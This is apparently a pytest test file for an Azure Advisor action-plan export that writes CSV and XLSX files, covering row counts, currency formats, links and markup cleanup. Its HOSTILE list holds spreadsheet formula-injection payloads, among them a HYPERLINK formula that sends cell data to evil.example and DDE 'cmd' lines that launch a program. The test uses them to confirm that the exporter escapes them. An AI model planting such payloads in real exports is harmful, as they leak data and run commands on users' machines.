"""The action-plan export (shared/rendering/export.py): one row per recommendation the report
counts, stable ids, hostile text kept as text in both formats, numbers as numbers, links as
links. The files are read back with the csv module and openpyxl."""

from __future__ import annotations

import csv
import io
from collections import Counter
from datetime import UTC, datetime
from decimal import Decimal

import openpyxl
import pytest

from devhost.big_tenant import build_big_tenant
from devhost.sample_tenant import build_bundled_sample
from shared.models import Recommendation, category_label
from shared.rendering.export import (
    HEADERS,
    action_rows,
    csv_bytes,
    money_format,
    safe_text,
    xlsx_bytes,
)
from shared.summary import summarize
from shared.summary_store import dump_summary, load_summary
from shared.text import plain_text
from tests.unit.test_action_plan import _sample_recommendations

COL = {name: i for i, name in enumerate(HEADERS)}
SUB = "11111111-2222-3333-4444-555555555555"
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rec(n: int, **kw: object) -> Recommendation:
    base: dict[str, object] = dict(
        recommendation_id=f"/subscriptions/{SUB}/resourceGroups/rg/providers/x/r{n}/providers/Microsoft.Advisor/recommendations/{n}",
        subscription_id=SUB,
        subscription_name="Zakłady Łódź – Produkcja",
        category="reliability",
        impact="high",
        recommendation_type_id=f"type-{n % 3}",
        problem=f"Problem {n % 3}",
        solution="Fix it",
        resource_id=f"/subscriptions/{SUB}/resourceGroups/rg/providers/x/r{n}",
        resource_name=f"r{n}",
        resource_group="rg",
        learn_more_link="https://learn.microsoft.com/azure/advisor/",
        last_updated=datetime(2026, 11, 30, 22, 15, tzinfo=UTC),
    )
    base.update(kw)
    return Recommendation(**base)  # type: ignore[arg-type]


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def _read_xlsx(data: bytes) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return list(sheet.iter_rows(values_only=True))


@pytest.mark.parametrize("tenant", ["bundled", "big"])
def test_rows_are_the_report_s_counts_in_total_and_per_category(tenant: str) -> None:
    data = build_bundled_sample() if tenant == "bundled" else build_big_tenant()
    summary = summarize(_sample_recommendations(data))
    stored = load_summary(dump_summary(summary))  # what the render step reads
    csv_rows = _read_csv(csv_bytes(action_rows(stored)))
    xlsx_rows = _read_xlsx(xlsx_bytes(action_rows(stored)))
    assert tuple(csv_rows[0]) == HEADERS == xlsx_rows[0]
    assert len(csv_rows) - 1 == len(xlsx_rows) - 1 == summary.total
    expected = {category_label(c): n for c, n in summary.counts_by_category.items()}
    assert Counter(r[1] for r in csv_rows[1:]) == expected
    assert Counter(r[1] for r in xlsx_rows[1:]) == expected
    ids = [r[0] for r in csv_rows[1:]]
    assert len(set(ids)) == len(ids) and [r[0] for r in xlsx_rows[1:]] == ids
    # the same data summarized again (another report of it) gives the same ids, row for row
    again = summarize(_sample_recommendations(data))
    assert [r.stable_id for r in action_rows(again)] == ids


def test_the_savings_of_the_export_are_the_report_s_per_currency() -> None:
    summary = summarize(_sample_recommendations(build_big_tenant()))
    rows = _read_xlsx(xlsx_bytes(action_rows(summary)))[1:]
    monthly: dict[str, Decimal] = {}
    for row in rows:
        if row[COL["Monthly savings"]] is not None:
            monthly[row[COL["Currency"]]] = monthly.get(row[COL["Currency"]], Decimal(0)) + Decimal(
                str(row[COL["Monthly savings"]])
            )
    assert {c: round(v, 2) for c, v in monthly.items()} == {s.currency: s.monthly for s in summary.savings}


def test_hostile_text_stays_text_in_both_formats() -> None:
    recs = [
        _rec(i, problem=text, solution=text, resource_name=text, resource_group=text, subscription_name=text)
        for i, text in enumerate(HOSTILE)
    ]
    summary = summarize(recs)
    for row in _read_csv(csv_bytes(action_rows(summary)))[1:]:
        for col in (3, 5, 6, 8, 9):
            assert row[col].startswith("'"), row[col]
            assert row[col][1:] in [plain_text(t) for t in HOSTILE] + HOSTILE
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(action_rows(summary))))
    for row in workbook.active.iter_rows(min_row=2):
        for col in (3, 5, 6, 8, 9):
            cell = row[col]
            assert cell.data_type == "s" and str(cell.value).startswith("'"), cell.value
    assert safe_text("plain") == "plain" and safe_text("a=b") == "a=b"


def test_csv_quoting_non_latin_text_and_markup() -> None:
    rec = _rec(
        1,
        problem='Use <b>managed disks</b> &amp; "zones", then\r\nrestart',
        resource_name="アラート-CPU使用率, 警报",
        subscription_name="Ελληνικά – Παραγωγή",
    )
    data = csv_bytes(action_rows(summarize([rec])))
    assert data.count(b"\r\n") == 2  # header and one row: the text's line break is gone, CRLF ends lines
    (row,) = _read_csv(data)[1:]
    assert row[8] == 'Use managed disks & "zones", then restart'
    assert (row[3], row[6]) == ("Ελληνικά – Παραγωγή", "アラート-CPU使用率, 警报")
    assert '"Use managed disks & ""zones"", then restart"' in data.decode("utf-8-sig")
    assert row[COL["Last updated (UTC)"]] == "2026-11-30 22:15"


def test_xlsx_numbers_links_header_and_layout() -> None:
    recs = [
        _rec(1, category="cost", monthly_savings=Decimal("1234.5"), savings_currency="EUR"),
        _rec(2, category="cost", monthly_savings=Decimal("150000"), savings_currency="JPY"),
        _rec(3, category="cost", monthly_savings=Decimal("10"), savings_currency=None),
    ]
    data = xlsx_bytes(action_rows(summarize(recs)), title="Cost report")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.active
    assert workbook.properties.title == "Cost report"
    assert sheet.freeze_panes == "B2" and sheet.auto_filter.ref == "A1:P4"
    assert sheet["A1"].font.b and sheet["A1"].fill.fgColor.rgb.endswith("1F4E79")
    assert sheet.column_dimensions["I"].width == 60
    by_currency = {row[COL["Currency"]].value: row for row in sheet.iter_rows(min_row=2)}
    eur, jpy, unknown = by_currency["EUR"], by_currency["JPY"], by_currency[None]
    assert (eur[COL["Monthly savings"]].value, eur[COL["Annual savings"]].value) == (1234.5, 14814) and eur[
        COL["Monthly savings"]
    ].data_type == "n"
    assert (
        eur[COL["Monthly savings"]].number_format == '#,##0.00 "EUR"'
        and jpy[COL["Monthly savings"]].number_format == '#,##0 "JPY"'
    )
    assert (
        unknown[COL["Monthly savings"]].value is None
    )  # an amount without a currency is not a figure anyone can add
    assert eur[COL["Learn more"]].hyperlink.target == "https://learn.microsoft.com/azure/advisor/"
    assert (
        eur[COL["Last updated (UTC)"]].value == datetime(2026, 11, 30, 22, 15)
        and eur[COL["Last updated (UTC)"]].is_date
    )
    assert money_format('EUR" ;@') == "#,##0.00"


def test_details_say_what_to_buy_or_resize() -> None:
    resize = _rec(
        1,
        category="cost",
        extended_properties={"currentSku": "Standard_D8s_v3", "targetSku": "Standard_D4s_v3"},
    )
    reserve = _rec(
        2,
        category="cost",
        recommendation_type_id="reservation",
        extended_properties={
            "reservedResourceType": "VirtualMachines",
            "displaySKU": "Standard_D2s_v3",
            "displayQty": "6",
            "term": "P3Y",
            "lookbackPeriod": "30",
        },
    )
    plan = _rec(
        3,
        category="cost",
        recommendation_type_id="plan",
        extended_properties={"term": "P1Y", "lookbackPeriod": "Last7Days"},
    )
    details = {r.resource_name: r.details for r in action_rows(summarize([resize, reserve, plan]))}
    assert details == {
        "r1": "Standard_D8s_v3 -> Standard_D4s_v3",
        "r2": "6 x Standard_D2s_v3, 3 years, 30-day lookback",
        "r3": "1 year, 7-day lookback",
    }


def test_an_empty_report_exports_its_header() -> None:
    summary = summarize([])
    assert _read_csv(csv_bytes(action_rows(summary))) == [list(HEADERS)]
    assert _read_xlsx(xlsx_bytes(action_rows(summary))) == [HEADERS]


def test_the_export_says_what_the_report_says_for_escaped_markup() -> None:
    """Advisor's text is made plain once (shared.text); the export does not strip it a second
    time, so an escaped tag the reports print as text ("<script>") is in the export too."""
    rec = _rec(1, problem="Block &lt;script&gt; in <b>inputs</b>")
    (row,) = _read_csv(csv_bytes(action_rows(summarize([rec]))))[1:]
    assert row[COL["Problem"]] == "Block <script> in inputs"
